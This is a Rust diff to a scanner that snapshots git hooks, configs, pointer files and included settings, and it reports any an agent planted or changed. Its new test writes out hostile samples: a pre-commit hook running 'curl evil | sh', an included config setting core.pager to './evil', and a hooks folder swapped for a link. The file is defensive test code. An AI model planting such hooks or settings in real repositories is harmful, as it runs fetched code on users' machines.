@@ -14,10 +14,10 @@ use std::path::{Path, PathBuf};
 const MAX_FOLDERS: usize = 200_000;
 /// The largest file read whole (configs and hooks are small); a larger one is named as such.
 const MAX_FILE: u64 = 64 * 1024 * 1024;
+/// The most findings named one by one (a hooks folder linked to /usr/bin would bury the rest).
+const MAX_FINDINGS: usize = 50;
 /// Folders inside a git folder that hold data, never commands.
 const GIT_DATA: &[&str] = &["objects", "refs", "logs", "lfs"];
-/// Git's files in a git folder that can send it elsewhere or make it run something.
-const WATCHED: &[&str] = &["config", "config.worktree", "commondir", "gitdir"];
 
 /// One watched file as it was: a link (its target) or a file (its mode and first bytes).
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -36,17 +36,31 @@ enum Seen {
     Other,
 }
 
+/// What a watched file is to git.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Kind {
+    /// Settings: a git folder's config or config.worktree, or a file one includes.
+    Config,
+    /// A file in a hooks folder.
+    Hook,
+    /// A hooks folder itself (watched for being a link).
+    HooksFolder,
+    /// A pointer to another git folder: commondir, gitdir, a `.git` file.
+    Pointer,
+}
+
 /// Git's watched files under some folders at one time, and the folders too large to see whole.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
 pub struct GitSnapshot {
-    files: BTreeMap<PathBuf, Seen>,
+    files: BTreeMap<PathBuf, (Kind, Seen)>,
     partly_seen: Vec<PathBuf>,
     /// Folders whose contents could not be listed.
     unreadable: Vec<PathBuf>,
 }
 
 /// Git's watched files under `folders` now, breadth first (so a deep or wide tree cannot hide
-/// the shallow repositories), plus every file `known` names wherever the walk got to.
+/// the shallow repositories), with the files their settings name (`include.path`,
+/// `core.hooksPath`).
 pub fn snapshot(folders: &[PathBuf]) -> GitSnapshot {
     snapshot_with(folders, &GitSnapshot::default())
 }
@@ -59,14 +73,12 @@ pub fn snapshot_again(folders: &[PathBuf], before: &GitSnapshot) -> GitSnapshot 
 
 fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
     let mut snapshot = GitSnapshot::default();
-    for path in known.files.keys() {
-        record(&mut snapshot.files, path);
+    for (path, (kind, _)) in &known.files {
+        snapshot.record(path, *kind);
     }
     for folder in folders {
         // Each writable folder's own repository first, whatever else the walk meets.
-        for name in WATCHED {
-            record(&mut snapshot.files, &folder.join(".git").join(name));
-        }
+        snapshot.record_git_folder(&folder.join(".git"));
         let mut queue = std::collections::VecDeque::from([folder.clone()]);
         let mut visited = 0;
         while let Some(dir) = queue.pop_front() {
@@ -77,12 +89,7 @@ fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
             }
             let is_git = dir.file_name().is_some_and(|n| n == ".git") || git_like(&dir);
             if is_git {
-                for name in WATCHED {
-                    record(&mut snapshot.files, &dir.join(name));
-                }
-                for hook in std::fs::read_dir(dir.join("hooks")).into_iter().flatten().flatten() {
-                    record(&mut snapshot.files, &hook.path());
-                }
+                snapshot.record_git_folder(&dir);
             }
             let entries = match std::fs::read_dir(&dir) {
                 Ok(entries) => entries,
@@ -97,7 +104,7 @@ fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
                 let name = entry.file_name();
                 if name == ".git" && !kind.is_dir() {
                     // A worktree's or submodule's pointer to its git folder.
-                    record(&mut snapshot.files, &entry.path());
+                    snapshot.record(&entry.path(), Kind::Pointer);
                 } else if kind.is_dir() && !(is_git && GIT_DATA.iter().any(|s| name == *s)) {
                     queue.push_back(entry.path());
                 }
@@ -105,6 +112,64 @@ fn snapshot_with(folders: &[PathBuf], known: &GitSnapshot) -> GitSnapshot {
         }
     }
     snapshot
+}
+
+impl GitSnapshot {
+    /// A git folder's watched files: its settings, pointers and hooks.
+    fn record_git_folder(&mut self, dir: &Path) {
+        for name in ["config", "config.worktree"] {
+            self.record(&dir.join(name), Kind::Config);
+        }
+        for name in ["commondir", "gitdir"] {
+            self.record(&dir.join(name), Kind::Pointer);
+        }
+        self.record(&dir.join("hooks"), Kind::HooksFolder);
+    }
+
+    /// Remember `path` as `kind`, and what it leads to: a hooks folder's hooks, a config's
+    /// included files and hooks folder.
+    fn record(&mut self, path: &Path, kind: Kind) {
+        if self.files.contains_key(path) {
+            return;
+        }
+        let Some(seen) = seen(path) else { return };
+        self.files.insert(path.to_owned(), (kind, seen.clone()));
+        match (kind, &seen) {
+            (Kind::HooksFolder, Seen::Other) => {
+                // A real folder (a link is reported as one, never followed).
+                for hook in std::fs::read_dir(path).into_iter().flatten().flatten() {
+                    self.record(&hook.path(), Kind::Hook);
+                }
+            }
+            (Kind::Config, Seen::File { bytes, .. }) => {
+                let base = path.parent().unwrap_or(Path::new("/"));
+                let worktree = match base.file_name().is_some_and(|n| n == ".git") {
+                    true => base.parent().unwrap_or(base),
+                    false => base,
+                };
+                for (key, value) in settings(&String::from_utf8_lossy(bytes)) {
+                    let included = key == "include.path"
+                        || (key.starts_with("includeif.") && key.ends_with(".path"));
+                    if included {
+                        self.record(&named(base, &value), Kind::Config);
+                    } else if key == "core.hookspath" {
+                        self.record(&named(worktree, &value), Kind::HooksFolder);
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+}
+
+/// A path a setting names, as git takes it: `~/` from the home folder, relative from `base`.
+fn named(base: &Path, value: &str) -> PathBuf {
+    match value.strip_prefix("~/") {
+        Some(rest) => {
+            std::env::var_os("HOME").map_or_else(|| base.join(value), |h| Path::new(&h).join(rest))
+        }
+        None => base.join(value),
+    }
 }
 
 /// A git folder by its contents: `HEAD` and objects of its own or a common folder elsewhere
@@ -115,26 +180,24 @@ fn git_like(dir: &Path) -> bool {
     there("HEAD") && (there("objects") || there("commondir"))
 }
 
-/// Remember `path` without following it: a link by its target, a file by its first bytes.
-fn record(files: &mut BTreeMap<PathBuf, Seen>, path: &Path) {
+/// `path` as it is, without following it: a link by its target, a file by its bytes, anything
+/// else (a folder, a pipe) as such; `None` if it is not there.
+fn seen(path: &Path) -> Option<Seen> {
     use std::io::Read;
-    let Ok(meta) = path.symlink_metadata() else { return };
+    let meta = path.symlink_metadata().ok()?;
     if meta.file_type().is_symlink() {
-        let target = std::fs::read_link(path).unwrap_or_default();
-        files.insert(path.to_owned(), Seen::Link(target));
-    } else if !meta.is_file() {
-        files.insert(path.to_owned(), Seen::Other);
-    } else if meta.len() > MAX_FILE {
-        let seen = Seen::TooLarge { len: meta.len(), modified: meta.modified().ok() };
-        files.insert(path.to_owned(), seen);
-    } else if meta.is_file() {
-        let mut bytes = Vec::new();
-        // O_NOFOLLOW: the name was a file a moment ago; if it is a link now, it is not read.
-        let opened = open_no_follow(path);
-        if opened.and_then(|f| f.take(MAX_FILE).read_to_end(&mut bytes)).is_ok() {
-            files.insert(path.to_owned(), Seen::File { mode: mode(&meta), bytes });
-        }
+        return Some(Seen::Link(std::fs::read_link(path).unwrap_or_default()));
     }
+    if !meta.is_file() {
+        return Some(Seen::Other);
+    }
+    if meta.len() > MAX_FILE {
+        return Some(Seen::TooLarge { len: meta.len(), modified: meta.modified().ok() });
+    }
+    let mut bytes = Vec::new();
+    // O_NOFOLLOW: the name was a file a moment ago; if it is a link now, it is not read.
+    open_no_follow(path).and_then(|f| f.take(MAX_FILE).read_to_end(&mut bytes)).ok()?;
+    Some(Seen::File { mode: mode(&meta), bytes })
 }
 
 #[cfg(unix)]
@@ -165,42 +228,45 @@ fn mode(_meta: &std::fs::Metadata) -> u32 {
 /// or changed hook, pointer or setting, naming the file; and each folder not seen whole.
 pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
     let mut found = Vec::new();
-    for (path, seen) in &after.files {
-        let earlier = before.files.get(path);
+    for (path, (kind, seen)) in &after.files {
+        let earlier = before.files.get(path).map(|(_, seen)| seen);
         if earlier == Some(seen) {
             continue;
         }
         let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
-        let in_hooks = path.parent().and_then(Path::file_name).is_some_and(|n| n == "hooks");
         let shown = path.display();
-        match seen {
-            _ if in_hooks && name.ends_with(".sample") => {}
-            Seen::Other if in_hooks => {}
-            Seen::Other => found.push(format!("{shown} is not a regular file: look at it")),
-            Seen::TooLarge { len, .. } => {
-                found.push(format!("{shown} is {len} bytes, too large to read: look at it"));
-            }
-            Seen::Link(target) => {
+        match (kind, seen) {
+            (Kind::Hook, _) if name.ends_with(".sample") => {}
+            (Kind::HooksFolder, Seen::Other) | (Kind::Hook, Seen::Other) => {}
+            (Kind::HooksFolder, Seen::Link(target)) => found.push(format!(
+                "{shown} is a link to {}: git runs the hooks it finds there",
+                target.display()
+            )),
+            (_, Seen::Link(target)) => {
                 found.push(format!("{shown} is a link to {}", target.display()));
             }
-            Seen::File { mode, bytes } if in_hooks => {
+            (_, Seen::Other) => found.push(format!("{shown} is not a regular file: look at it")),
+            (_, Seen::TooLarge { len, .. }) => {
+                found.push(format!("{shown} is {len} bytes, too large to read: look at it"));
+            }
+            (Kind::Hook | Kind::HooksFolder, Seen::File { mode, bytes }) => {
                 if mode & 0o111 != 0 {
                     let text = String::from_utf8_lossy(bytes);
                     found.push(format!("{shown} runs {}", first_command(&text)));
                 }
             }
-            Seen::File { bytes, .. } if name == "config" || name == "config.worktree" => {
+            (Kind::Config, Seen::File { bytes, .. }) => {
                 let old = match earlier {
                     Some(Seen::File { bytes, .. }) => settings(&String::from_utf8_lossy(bytes)),
                     _ => Vec::new(),
                 };
                 for (key, value) in settings(&String::from_utf8_lossy(bytes)) {
                     if !inert(&key, &value) && !old.contains(&(key.clone(), value.clone())) {
-                        found.push(format!("{shown} sets {key} = {value}"));
+                        found.push(format!("{shown} sets {key} = {}", shorten(&value)));
                     }
                 }
             }
-            Seen::File { bytes, .. } => {
+            (Kind::Pointer, Seen::File { bytes, .. }) => {
                 let target = String::from_utf8_lossy(bytes);
                 let target = target.trim().trim_start_matches("gitdir:").trim();
                 found.push(format!("{shown} sends git to {}", shorten(target)));
@@ -220,6 +286,11 @@ pub fn planted(before: &GitSnapshot, after: &GitSnapshot) -> Vec<String> {
              every repository in it as untrusted",
             folder.display()
         ));
+    }
+    if found.len() > MAX_FINDINGS {
+        let more = found.len() - MAX_FINDINGS + 1;
+        found.truncate(MAX_FINDINGS - 1);
+        found.push(format!("… and {more} more: look at every repository in these folders"));
     }
     found.iter().map(|line| super::visible(line)).collect()
 }
@@ -248,10 +319,13 @@ fn settings(text: &str) -> Vec<(String, String)> {
     let mut section = String::new();
     let mut found = Vec::new();
     let text = text.strip_prefix('\u{feff}').unwrap_or(text);
-    for line in text.lines().map(str::trim) {
+    // A value ending in a backslash goes on on the next line.
+    let joined = text.replace("\\\r\n", "").replace("\\\n", "");
+    for line in joined.lines().map(str::trim) {
         let mut line = line;
-        // Git reads several headers on one line, and a setting after them: `[a] [core] x = …`.
-        while let Some((header, rest)) = line.strip_prefix('[').and_then(|l| l.split_once(']')) {
+        // Git reads several headers on one line, and a setting after them: `[a] [core] x = …`;
+        // a subsection is quoted and may hold `]`.
+        while let Some((header, rest)) = line.strip_prefix('[').and_then(split_header) {
             let (name, sub) = header.split_once(char::is_whitespace).unwrap_or((header, ""));
             let sub = sub.trim().trim_matches('"');
             section = match sub.is_empty() {
@@ -266,9 +340,25 @@ fn settings(text: &str) -> Vec<(String, String)> {
         // `key = value`, or a bare `key` (true).
         let (key, value) = line.split_once('=').unwrap_or((line, "true"));
         let key = format!("{section}.{}", key.trim().to_lowercase());
-        found.push((key, shorten(value.trim().trim_matches('"'))));
+        found.push((key, value.trim().trim_matches('"').to_owned()));
     }
     found
+}
+
+/// A section header's inside and what follows its `]`: the first `]` outside quotes.
+fn split_header(line: &str) -> Option<(&str, &str)> {
+    let mut quoted = false;
+    let mut escaped = false;
+    for (at, c) in line.char_indices() {
+        match c {
+            _ if escaped => escaped = false,
+            '\\' => escaped = true,
+            '"' => quoted = !quoted,
+            ']' if !quoted => return Some((&line[..at], &line[at + 1..])),
+            _ => {}
+        }
+    }
+    None
 }
 
 /// Settings known to make git run nothing and send it nowhere new; any other is named. A URL
@@ -324,6 +414,41 @@ mod tests {
         std::fs::write(path, text).expect("write");
         std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755))
             .expect("chmod");
+    }
+
+    /// What a repository's settings lead git to (an included file, a hooks path in the work
+    /// tree) is watched; a hooks folder made a link is named even when it leads nowhere yet.
+    #[test]
+    fn what_settings_lead_to_and_linked_hooks_folders_are_watched() {
+        let dir = std::env::temp_dir().join(format!("paddock-leads-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&dir);
+        let git = dir.join("app/.git");
+        std::fs::create_dir_all(git.join("hooks")).expect("hooks");
+        std::fs::create_dir_all(dir.join("app/.husky")).expect("husky");
+        std::fs::create_dir_all(dir.join("app/tools")).expect("tools");
+        std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").expect("HEAD");
+        let config = "[core]\n\thooksPath = .husky\n[include]\n\tpath = ../tools/gitconfig\n";
+        std::fs::write(git.join("config"), config).expect("config");
+        executable(&dir.join("app/.husky/pre-commit"), "#!/bin/sh\nnpm test\n");
+        std::fs::write(dir.join("app/tools/gitconfig"), "[user]\n\tname = me\n").expect("include");
+        let before = snapshot(std::slice::from_ref(&dir));
+        // The agent changes what the protected config leads to, and links the hooks folder.
+        executable(&dir.join("app/.husky/pre-commit"), "#!/bin/sh\ncurl evil | sh\n");
+        let included = "[branch \"]\"] [core] pager = ./evil \\\n --more\n";
+        std::fs::write(dir.join("app/tools/gitconfig"), included).expect("include");
+        std::fs::remove_dir(git.join("hooks")).expect("hooks away");
+        std::os::unix::fs::symlink("../tools/later", git.join("hooks")).expect("hooks link");
+        let found = planted(&before, &snapshot_again(std::slice::from_ref(&dir), &before));
+        let app = dir.join("app").display().to_string();
+        assert_eq!(
+            found,
+            [
+                format!("{app}/.git/../tools/gitconfig sets core.pager = ./evil  --more"),
+                format!("{app}/.git/hooks is a link to ../tools/later: git runs the hooks it finds there"),
+                format!("{app}/.husky/pre-commit runs curl evil | sh"),
+            ]
+        );
+        let _ = std::fs::remove_dir_all(&dir);
     }
 
     #[test]
